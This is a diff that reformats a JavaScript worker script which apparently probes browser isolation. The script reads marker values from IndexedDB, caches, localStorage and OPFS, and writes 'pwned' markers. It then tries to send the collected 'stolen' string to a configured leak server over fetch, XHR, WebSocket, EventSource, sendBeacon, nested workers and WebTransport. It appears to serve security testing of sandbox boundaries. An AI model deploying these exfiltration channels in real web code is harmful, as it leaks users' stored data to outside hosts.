@@ -97,7 +97,12 @@ async function idbWrite() {
 function onceEvent(target, okEvent, failEvents) {
   return new Promise((resolve, reject) => {
     target.addEventListener(okEvent, () => resolve(okEvent), { once: true });
-    for (const name of failEvents) target.addEventListener(name, (event) => reject(new Error(`${name} event${event && event.code ? ` (code ${event.code})` : ''}`)), { once: true });
+    for (const name of failEvents)
+      target.addEventListener(
+        name,
+        (event) => reject(new Error(`${name} event${event && event.code ? ` (code ${event.code})` : ''}`)),
+        { once: true },
+      );
   });
 }
 
@@ -152,7 +157,9 @@ async function run(event) {
   }));
 
   // The app's storage.
-  await attempt('indexedDB.databases()', async () => (await indexedDB.databases()).map((db) => `${db.name}@${db.version}`));
+  await attempt('indexedDB.databases()', async () =>
+    (await indexedDB.databases()).map((db) => `${db.name}@${db.version}`),
+  );
   await attempt('indexedDB.open(app db) read marker', idbRead);
   await attempt('indexedDB.open(app db) write pwned', idbWrite);
   await attempt('caches.keys()', () => caches.keys());
@@ -171,7 +178,8 @@ async function run(event) {
     return self.localStorage.getItem(CONFIG.localStorageKey);
   });
   await attempt('sessionStorage', () => {
-    if (typeof self.sessionStorage === 'undefined') throw new ReferenceError('sessionStorage is not defined in this scope');
+    if (typeof self.sessionStorage === 'undefined')
+      throw new ReferenceError('sessionStorage is not defined in this scope');
     return self.sessionStorage.length;
   });
   await attempt('OPFS navigator.storage.getDirectory() read marker', async () => {
@@ -179,7 +187,8 @@ async function run(event) {
     const names = [];
     for await (const name of dir.keys()) names.push(name);
     let value = null;
-    if (names.includes(CONFIG.opfsFile)) value = await (await (await dir.getFileHandle(CONFIG.opfsFile)).getFile()).text();
+    if (names.includes(CONFIG.opfsFile))
+      value = await (await (await dir.getFileHandle(CONFIG.opfsFile)).getFile()).text();
     return { names, value };
   });
   await attempt('OPFS write pwned', async () => {
@@ -198,7 +207,8 @@ async function run(event) {
     read('indexedDB.open(app db) read marker') && read('indexedDB.open(app db) read marker').value,
     read('caches.open(app cache) match marker') && read('caches.open(app cache) match marker').value,
     read('localStorage'),
-    read('OPFS navigator.storage.getDirectory() read marker') && read('OPFS navigator.storage.getDirectory() read marker').value,
+    read('OPFS navigator.storage.getDirectory() read marker') &&
+      read('OPFS navigator.storage.getDirectory() read marker').value,
   ].filter((value) => typeof value === 'string' && value.length > 0);
   const stolen = found.length > 0 ? found.join('|') : 'nothing';
 
@@ -206,7 +216,8 @@ async function run(event) {
     attempt('fetch(leak server, absolute)', async () => `status ${(await fetch(leakUrl('fetch', stolen))).status}`),
     attempt(
       'fetch(leak server, no-cors keepalive POST)',
-      async () => `type ${(await fetch(leakUrl('fetch-keepalive', stolen), { method: 'POST', mode: 'no-cors', keepalive: true, body: stolen })).type}`,
+      async () =>
+        `type ${(await fetch(leakUrl('fetch-keepalive', stolen), { method: 'POST', mode: 'no-cors', keepalive: true, body: stolen })).type}`,
     ),
     attempt(
       'fetch(leak host by name, DNS)',
@@ -224,12 +235,20 @@ async function run(event) {
           ).status
         }`,
     ),
-    attempt('fetch(app origin, absolute)', async () => `status ${(await fetch(`${CONFIG.appOrigin}/__leak/${CONFIG.tag}/fetch-app?data=${stolen}`)).status}`),
-    attempt('fetch(app-relative /__leak)', async () => `status ${(await fetch(`/__leak/${CONFIG.tag}/fetch-relative?data=${stolen}`)).status}`),
+    attempt(
+      'fetch(app origin, absolute)',
+      async () => `status ${(await fetch(`${CONFIG.appOrigin}/__leak/${CONFIG.tag}/fetch-app?data=${stolen}`)).status}`,
+    ),
+    attempt(
+      'fetch(app-relative /__leak)',
+      async () => `status ${(await fetch(`/__leak/${CONFIG.tag}/fetch-relative?data=${stolen}`)).status}`,
+    ),
     attempt('XMLHttpRequest async', () => xhr(leakUrl('xhr-async', stolen), true)),
     attempt('XMLHttpRequest sync', () => xhr(leakUrl('xhr-sync', stolen), false)),
     attempt('WebSocket', () => {
-      const socket = new WebSocket(`${CONFIG.leakOrigin.replace(/^http/, 'ws')}/leak/${CONFIG.tag}/websocket?data=${stolen}`);
+      const socket = new WebSocket(
+        `${CONFIG.leakOrigin.replace(/^http/, 'ws')}/leak/${CONFIG.tag}/websocket?data=${stolen}`,
+      );
       return onceEvent(socket, 'open', ['error', 'close']);
     }),
     attempt('EventSource', () => {
@@ -237,7 +256,8 @@ async function run(event) {
       return onceEvent(source, 'open', ['error']).finally(() => source.close());
     }),
     attempt('navigator.sendBeacon', () => {
-      if (typeof navigator.sendBeacon !== 'function') throw new TypeError('navigator.sendBeacon is not a function in this scope');
+      if (typeof navigator.sendBeacon !== 'function')
+        throw new TypeError('navigator.sendBeacon is not a function in this scope');
       return navigator.sendBeacon(leakUrl('beacon', stolen), stolen);
     }),
     attempt('importScripts(leak)', () => {
@@ -258,13 +278,16 @@ async function run(event) {
       const code = `fetch(${JSON.stringify(leakUrl('nested-worker-fetch', stolen))}).then((r) => postMessage('status ' + r.status), (e) => postMessage('failed: ' + e.name + ': ' + e.message));`;
       const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
       return new Promise((resolve, reject) => {
-        worker.onmessage = (message) => (String(message.data).startsWith('failed') ? reject(new Error(String(message.data))) : resolve(message.data));
+        worker.onmessage = (message) =>
+          String(message.data).startsWith('failed') ? reject(new Error(String(message.data))) : resolve(message.data);
         worker.onerror = (error) => reject(new Error(`worker error: ${error.message}`));
       }).finally(() => worker.terminate());
     }),
     attempt('WebTransport', async () => {
       if (typeof self.WebTransport !== 'function') throw new TypeError('WebTransport is not defined in this scope');
-      const transport = new WebTransport(`https://${CONFIG.leakOrigin.replace(/^https?:\/\//, '')}/leak/${CONFIG.tag}/webtransport`);
+      const transport = new WebTransport(
+        `https://${CONFIG.leakOrigin.replace(/^https?:\/\//, '')}/leak/${CONFIG.tag}/webtransport`,
+      );
       await transport.ready;
       return 'connected';
     }),
